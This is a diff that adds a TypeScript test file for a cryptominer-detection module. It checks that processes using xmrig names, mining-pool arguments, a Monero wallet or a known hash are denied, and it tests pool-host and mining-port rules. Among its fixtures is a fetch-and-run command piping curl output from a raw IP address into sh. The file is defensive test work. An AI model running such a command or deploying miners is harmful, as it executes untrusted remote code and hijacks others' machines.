@@ -1,0 +1,80 @@
+import fc from 'fast-check';
+import { beforeAll, expect, test } from 'vitest';
+import { judgeDestination } from '../../detection/destination.ts';
+import { type Indicators, withExtra } from '../../detection/indicators.ts';
+import { loadIndicators } from '../../detection/load.ts';
+import { judgeProcess, type ProcessFacts } from '../../detection/process.ts';
+import { XMR } from '../corpus/wallets.ts';
+
+let indicators: Indicators;
+beforeAll(async () => {
+  indicators = withExtra(await loadIndicators(), {
+    hashes: ['ab'.repeat(32)],
+    addresses: ['203.0.113.5:443'],
+  });
+});
+const judge = (facts: ProcessFacts) => judgeProcess(facts, { indicators });
+
+test.each<[string, ProcessFacts, string]>([
+  ['name of the binary', { exe: '/opt/xmrig', argv: ['xmrig'] }, 'exe'],
+  ['version behind the name', { exe: '/opt/xmrig-6.21.0/xmrig-6.21.0', argv: ['a'] }, 'exe'],
+  ['comm', { exe: '/opt/a', comm: 'xmrig', argv: ['a'] }, 'comm'],
+  ['own name', { exe: '/opt/a', argv: ['./xmrig'] }, 'argv[0]'],
+  ['pool among the arguments', { exe: '/opt/a', argv: ['a', '-o', 'stratum+ssl://p:1'] }, 'argv[2]'],
+  [
+    'wallet and pool of a renamed program',
+    { exe: '/usr/bin/nginx', argv: ['nginx', '-o', 'p.example:3333', '-u', XMR] },
+    'argv[4]',
+  ],
+  [
+    'inert name in argv[0] over another binary',
+    { exe: '/opt/a', argv: ['grep', '-o', 'p.example:3333', '-u', XMR] },
+    'argv[4]',
+  ],
+  ['script', { exe: '/bin/dash', argv: ['sh', '-c', 'curl -s http://185.1.2.3/x | sh'] }, 'argv[2]'],
+  ['hash', { exe: '/opt/a', argv: ['a'], sha256: 'ab'.repeat(32) }, 'sha256'],
+])('denies by %s', (_, facts, path) => {
+  const { verdict, findings } = judge(facts);
+  expect(verdict).toBe('deny');
+  expect(findings.map((finding) => finding.path)).toContain(path);
+});
+
+test.each<[string, ProcessFacts]>([
+  ['a web server', { exe: '/usr/sbin/nginx', comm: 'nginx', argv: ['nginx: worker process'] }],
+  ['a kernel thread', { exe: '', comm: 'kworker/0:1', argv: [] }],
+  ['a search', { exe: '/bin/grep', comm: 'grep', argv: ['grep', '-r', 'stratum+tcp://p:1', '/etc'] }],
+  ['minio', { exe: '/usr/bin/minio', comm: 'minio', argv: ['minio', 'server', '/data'] }],
+  ['an exporter', { exe: '/usr/bin/xmrig-exporter', comm: 'xmrig-exporter', argv: ['xmrig-exporter'] }],
+  ['a login shell', { exe: '/bin/bash', comm: 'bash', argv: ['-bash'] }],
+  ['pgrep', { exe: '/usr/bin/pgrep', comm: 'pgrep', argv: ['pgrep', 'xmrig'] }],
+])('does not deny %s', (_, facts) => expect(judge(facts).verdict).not.toBe('deny'));
+
+test('no process makes it throw', () => {
+  const text = fc.oneof(
+    fc.string(),
+    fc.constantFrom('-o', '-c', 'sh', '/memfd:x (deleted)', '[kworker]', '--url=', XMR),
+  );
+  fc.assert(
+    fc.property(
+      text,
+      text,
+      fc.array(text, { maxLength: 8 }),
+      (exe, comm, argv) => void judge({ exe, comm, argv }),
+    ),
+    { numRuns: 1000 },
+  );
+});
+
+test('a port is a hint, a name or an address is proof', () => {
+  const rules = (destination: Parameters<typeof judgeDestination>[0]) =>
+    judgeDestination(destination, { indicators }).map(({ rule, score }) => [rule, score]);
+  expect(rules({ address: '10.0.0.1', port: 4444 })).toEqual([['mining-port', 5]]);
+  expect(rules({ address: '10.0.0.1', port: 8080 })).toEqual([]);
+  expect(rules({ address: '192.0.2.1', port: 3333, host: 'POOL.supportxmr.com.' })[0]).toEqual([
+    'pool-host',
+    100,
+  ]);
+  expect(rules({ address: '203.0.113.5', port: 443 })[0]).toEqual(['pool-address', 100]);
+  expect(rules({ address: '203.0.113.5', port: 80 })).toEqual([]);
+  expect(rules({ address: '192.0.2.1', port: 443, host: 'notsupportxmr.com' })).toEqual([]);
+});
